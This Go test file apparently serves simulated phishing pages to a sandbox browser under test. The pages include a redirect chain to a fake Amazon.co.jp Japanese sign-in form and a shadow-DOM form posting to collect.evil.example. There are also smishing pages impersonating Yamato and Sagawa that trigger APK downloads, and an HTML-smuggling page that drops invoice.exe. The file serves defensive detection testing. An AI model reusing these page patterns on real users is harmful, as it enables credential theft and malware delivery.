package browser

import (
	"fmt"
	"html"
	"net"
	"net/http"
	"strings"

	"github.com/kensa-mail/kensa/internal/testsite"
)

// The test "internet": internal/testsite on one loopback port serves every
// host name by the Host header, over plain HTTP and TLS. The browser is not
// told to trust its self-signed certificate, so an https:// page gives a
// certificate error. The egress proxy's TestMapHosts sends every
// connection here.

const iPhoneUA = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"
const androidUA = "Mozilla/5.0 (Linux; Android 14; SH-M26) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36"

var apkBody = append([]byte("PK\x03\x04\x14\x00\x08\x00\x08\x00AndroidManifest.xml"), make([]byte, 8000)...)

type site struct {
	*testsite.Site
	hangHit chan struct{} // a request reached /hang
	ctaHit  chan string   // a call to action's target was requested (host+path)
	closing chan struct{} // closed by close: the hanging handlers return
}

func htmlPage(title, body string) string {
	return "<!doctype html><html><head><meta charset=utf-8><title>" + title + "</title></head><body>" + body + "</body></html>"
}

func (s *site) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	host, _, err := net.SplitHostPort(r.Host)
	if err != nil {
		host = r.Host
	}
	key := host + r.URL.Path
	h := w.Header()
	h.Set("Content-Type", "text/html; charset=utf-8")
	switch key {
	// The redirect chain: 302 -> meta refresh -> script -> login form.
	case "click.mail-link.example/r/abc":
		http.Redirect(w, r, "http://hop1.redirector.example/meta", http.StatusFound)
	case "hop1.redirector.example/meta":
		fmt.Fprint(w, `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=http://hop2.redirector.example/js"></head><body>moving</body></html>`)
	case "hop2.redirector.example/js":
		fmt.Fprint(w, htmlPage("wait", `<script>location.href = "http://login.amazon-co-jp.example/signin?x=1";</script>`))
	case "login.amazon-co-jp.example/signin":
		fmt.Fprint(w, htmlPage("Amazon.co.jp サインイン", `
<img src="/logo.png" alt="amazon.co.jp">
<h1>サインイン</h1>
<form id="f" method="post" action="/ap/signin-post">
  <label for="em">Eメールまたは携帯電話番号</label><input id="em" name="email" type="email" autocomplete="username">
  <label>パスワード <input id="pw" name="password" type="password" autocomplete="current-password"></label>
  <input type="hidden" name="token" value="x">
  <input type="text" name="trap" style="position:absolute;left:-9999px">
  <button type="submit">ログイン</button>
</form>`))
	case "login.amazon-co-jp.example/logo.png":
		h.Set("Content-Type", "image/gif")
		w.Write(gif1x1)

	// A delayed meta refresh.
	case "meta.example/delay":
		fmt.Fprint(w, `<!doctype html><html><head><meta http-equiv="refresh" content="1; url=/after"><title>wait</title></head><body>redirecting in 1s</body></html>`)
	case "meta.example/after":
		fmt.Fprint(w, htmlPage("after", "arrived"))

	// Forms in a same-origin iframe, in an open shadow root, and in a
	// cross-site iframe (not captured: another process).
	case "portal.example/frames":
		fmt.Fprint(w, htmlPage("portal", `<p>outer text</p>
<iframe id="same" src="/inner" width="400" height="300"></iframe>
<iframe id="cross" src="http://widget.other.example/inner" width="400" height="300"></iframe>
<login-box></login-box>
<script>
customElements.define('login-box', class extends HTMLElement {
  connectedCallback() {
    const r = this.attachShadow({mode: 'open'});
    r.innerHTML = '<p>shadow text</p><form action="https://collect.evil.example/c" method="post"><input type="email" name="id" placeholder="ログインID"><input type="password" name="pin" aria-label="暗証番号"></form><img src="/bank-logo.png" alt="ゆうちょ銀行">';
  }
});
</script>`))
	case "portal.example/inner":
		fmt.Fprint(w, htmlPage("inner", `<p>inner text</p><form action="post.php"><input type="password" name="pass" id="ipw" placeholder="パスワード"></form>`))
	case "widget.other.example/inner":
		fmt.Fprint(w, htmlPage("cross", `<form action="/x"><input type="password" name="crosspw"></form>`))

	// A smishing download: a page that sends the browser to an APK.
	case "delivery.example/track":
		fmt.Fprint(w, htmlPage("ヤマト運輸", `<p>お荷物の配達状況を確認するにはアプリをインストールしてください。</p><script>setTimeout(() => { location.href = "/dl/yamato.apk"; }, 10);</script>`))
	// The same, 4 s after load (found by running the timers ahead).
	case "late.delivery.example/track":
		fmt.Fprint(w, htmlPage("ヤマト運輸", `<p>お荷物の配達状況を確認するにはアプリをインストールしてください。</p><script>onload = () => setTimeout(() => { location.href = "/dl/yamato.apk"; }, 4000);</script>`))
	case "delivery.example/dl/yamato.apk", "late.delivery.example/dl/yamato.apk":
		h.Set("Content-Type", "application/vnd.android.package-archive")
		h.Set("Content-Disposition", `attachment; filename="yamato-tracking.apk"`)
		h.Set("Content-Length", fmt.Sprint(len(apkBody)))
		w.Write(apkBody)

	// HTML smuggling: the page builds the file itself and "clicks" it.
	case "smuggle.example/":
		fmt.Fprint(w, htmlPage("invoice", `<p>Your invoice is downloading.</p><script>
const b = new Blob([new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03])], {type: 'application/x-msdownload'});
const a = document.createElement('a'); a.href = URL.createObjectURL(b); a.download = 'invoice.exe';
document.body.appendChild(a); a.click();
</script>`))

	// A huge download that trickles: announced as 100 MiB, 1.5 MiB sent,
	// then nothing.
	case "files.example/huge.iso":
		h.Set("Content-Type", "application/octet-stream")
		h.Set("Content-Disposition", `attachment; filename="setup.iso"`)
		h.Set("Content-Length", fmt.Sprint(100<<20))
		w.Write([]byte("MZ\x90\x00"))
		w.Write(make([]byte, 3<<19))
		w.(http.Flusher).Flush()
		select {
		case <-r.Context().Done():
		case <-s.closing:
		}

	// What the page sees of the browser.
	case "ua.example/echo":
		fmt.Fprint(w, htmlPage("echo", `<meta name="viewport" content="width=device-width, initial-scale=1"><pre id="out">ua=`+html.EscapeString(r.UserAgent())+`
al=`+html.EscapeString(r.Header.Get("Accept-Language"))+`
chua=`+html.EscapeString(r.Header.Get("Sec-CH-UA"))+`
</pre><script>
document.getElementById('out').textContent += 'w=' + innerWidth + '\nh=' + innerHeight + '\ntouch=' + navigator.maxTouchPoints +
  '\ntz=' + Intl.DateTimeFormat().resolvedOptions().timeZone + '\nlang=' + navigator.language +
  '\nbrands=' + (navigator.userAgentData ? JSON.stringify(navigator.userAgentData.brands) : 'none') + '\nplatform=' + navigator.platform + '\nsw=' + screen.width + '\nwebdriver=' + navigator.webdriver + '\nnavua=' + navigator.userAgent + '\n';
</script>`))

	// A server that never answers.
	case "slow.example/hang":
		select {
		case s.hangHit <- struct{}{}:
		default:
		}
		select {
		case <-r.Context().Done():
		case <-s.closing:
		}

	// A page whose load event never fires (an image that hangs), but that
	// parsed: it is captured, not an error.
	case "stall.example/page":
		fmt.Fprint(w, htmlPage("stall", `<p>parsed fine</p><img src="http://slow.example/hang">`))

	// A page that never gives its main thread back.
	case "busy.example/loop":
		fmt.Fprint(w, htmlPage("busy", `<p>spinning</p><script>setTimeout(() => { for (;;) {} }, 50);</script>`))
	case "crash.example/page":
		fmt.Fprint(w, htmlPage("crash", `<p>about to crash</p>`))

	// Plain pages for the benchmark.
	case "www.news.example/":
		fmt.Fprint(w, htmlPage("ニュース", strings.Repeat("<p>今日のニュース。Lorem ipsum dolor sit amet.</p>", 200)))

	// Anything over TLS (self-signed): a certificate error.
	// Calls to action the sandbox must not click: a form's submit
	// button, a link to another site, two different sign-in links; and
	// one it clicks: a same-origin link to the sign-in page.
	case "cta.example/submit":
		fmt.Fprint(w, htmlPage("submit", `<p>Welcome back.</p><form action="/submitted"><input name="q"><button>ログイン</button></form>`))
	case "cta.example/submitted", "other-site.example/login", "cta.example/login-a", "cta.example/login-b":
		s.ctaHit <- key
		fmt.Fprint(w, htmlPage("hit", `<form><input type="password"></form>`))
	case "cta.example/cross":
		fmt.Fprint(w, htmlPage("cross", `<p>Welcome.</p><a href="http://other-site.example/login">ログイン</a>`))
	case "cta.example/nav":
		fmt.Fprint(w, htmlPage("nav", `<nav><ul><li><a href="/login-a">ログイン</a></li></ul></nav><p>Welcome.</p>`))
	case "cta.example/two":
		fmt.Fprint(w, htmlPage("two", `<p>Welcome.</p><a href="/login-a">ログイン</a> <a href="/login-b">Sign in</a>`))
	case "cta.example/one":
		fmt.Fprint(w, htmlPage("one", `<p>Welcome.</p><a href="/login-a">ログイン</a> <a href="/login-a#top"> ログイン </a>`))
	// What a fingerprinting script sees, as JSON in the page's text.
	case "fp.example/":
		fmt.Fprint(w, htmlPage("fp", `<pre id="out"></pre><script>
let gl = {};
try {
  const c = document.createElement('canvas').getContext('webgl');
  const e = c && c.getExtension('WEBGL_debug_renderer_info');
  if (e) gl = {vendor: c.getParameter(e.UNMASKED_VENDOR_WEBGL), renderer: c.getParameter(e.UNMASKED_RENDERER_WEBGL)};
} catch (err) { gl = {error: String(err)}; }
document.getElementById('out').textContent = JSON.stringify({
  ua: navigator.userAgent,
  brands: navigator.userAgentData ? navigator.userAgentData.brands : null,
  outerWidth, outerHeight, innerWidth, innerHeight,
  screen: {width: screen.width, height: screen.height, availWidth: screen.availWidth, availHeight: screen.availHeight},
  timeZone: Intl.DateTimeFormat().resolvedOptions().timeZone,
  webgl: gl,
});
</script>`))
	// Late actions (issue 11): a download a timer starts 500 ms after the
	// page ran its scripts, by navigation and by an anchor with a
	// download attribute; the same behind a login form; a download
	// behind a single "ダウンロード" call to action; and their benign
	// twins (a timer that only updates the page, a splash page that moves
	// on to the site's own home page, two download links).
	case "sagawa-redelivery.top/":
		fmt.Fprint(w, htmlPage("不在通知", `<p>お荷物をお届けしましたが不在のため持ち帰りました。再配達にはアプリが必要です。</p><script>setTimeout(() => { location = '/app.apk'; }, 500);</script>`))
	case "sagawa-anchor.top/":
		fmt.Fprint(w, htmlPage("不在通知", `<p>お荷物をお届けしましたが不在のため持ち帰りました。再配達にはアプリが必要です。</p><script>setTimeout(() => { const a = document.createElement('a'); a.href = '/app.apk'; a.download = 'sagawa.apk'; document.body.appendChild(a); a.click(); }, 500);</script>`))
	case "sagawa-login.top/":
		fmt.Fprint(w, htmlPage("会員ログイン", `<form action="/l" method="post">ID <input name="id"> パスワード <input type="password" name="pw"><button>ログイン</button></form><script>setTimeout(() => { location = '/app.apk'; }, 500);</script>`))
	case "sagawa-cta.top/":
		fmt.Fprint(w, htmlPage("アプリのご案内", `<p>お荷物の追跡には専用アプリが必要です。</p><button id="b">ダウンロード</button><script>document.getElementById('b').onclick = () => { location = '/app.apk'; };</script>`))
	case "sagawa-redelivery.top/app.apk", "sagawa-anchor.top/app.apk", "sagawa-login.top/app.apk", "sagawa-cta.top/app.apk":
		h.Set("Content-Type", "application/vnd.android.package-archive")
		h.Set("Content-Disposition", `attachment; filename="sagawa.apk"`)
		h.Set("Content-Length", fmt.Sprint(len(apkBody)))
		w.Write(apkBody)
	case "www.weather-news.example/":
		fmt.Fprint(w, htmlPage("天気予報", `<p id="t">読み込み中</p><script>setTimeout(() => { document.getElementById('t').textContent = '東京 晴れ 最高気温 18度'; }, 500);</script>`))
	case "www.splash-shop.example/":
		fmt.Fprint(w, htmlPage("ようこそ", `<p>Loading...</p><script>setTimeout(() => { location = '/home'; }, 500);</script>`))
	case "www.splash-shop.example/home":
		fmt.Fprint(w, htmlPage("ショップ", `<p>春の新商品が入荷しました。</p>`))
	case "www.app-guide.example/":
		fmt.Fprint(w, htmlPage("アプリのご案内", `<p>お使いの端末を選んでください。</p><a href="/a.apk">ダウンロード</a> <a href="/b.apk">Download</a>`))
	case "www.app-guide.example/a.apk", "www.app-guide.example/b.apk":
		s.ctaHit <- key
		http.NotFound(w, r)
	case "secure.bank.example/login":
		fmt.Fprint(w, htmlPage("bank", `<form><input type="password"></form>`))
	case "state.example/": // TestRendersShareNoState
		h.Set("Set-Cookie", "kensa_state=1; Path=/; Max-Age=3600")
		fmt.Fprint(w, htmlPage("state", `<p id=o>sent=[`+html.EscapeString(r.Header.Get("Cookie"))+`]</p><script>
const o = document.getElementById('o');
o.textContent += ' ls=[' + (localStorage.getItem('k') || '') + ']';
localStorage.setItem('k', 'v');
</script>`))
	case "blank.bench.example/empty": // BenchmarkFloor, as sandbox/inprocess's baseline
		fmt.Fprint(w, emptyPage)
	default:
		http.NotFound(w, r)
	}
}

// emptyPage is the page of the floor benchmarks (BenchmarkFloor).
const emptyPage = "<!doctype html><title>empty</title>"

var gif1x1 = []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")

func startSite() (*site, error) {
	s := &site{hangHit: make(chan struct{}, 16), ctaHit: make(chan string, 16), closing: make(chan struct{})}
	ts, err := testsite.Start(s)
	if err != nil {
		return nil, err
	}
	s.Site = ts
	return s, nil
}

func (s *site) close() {
	close(s.closing)
	s.Close()
}
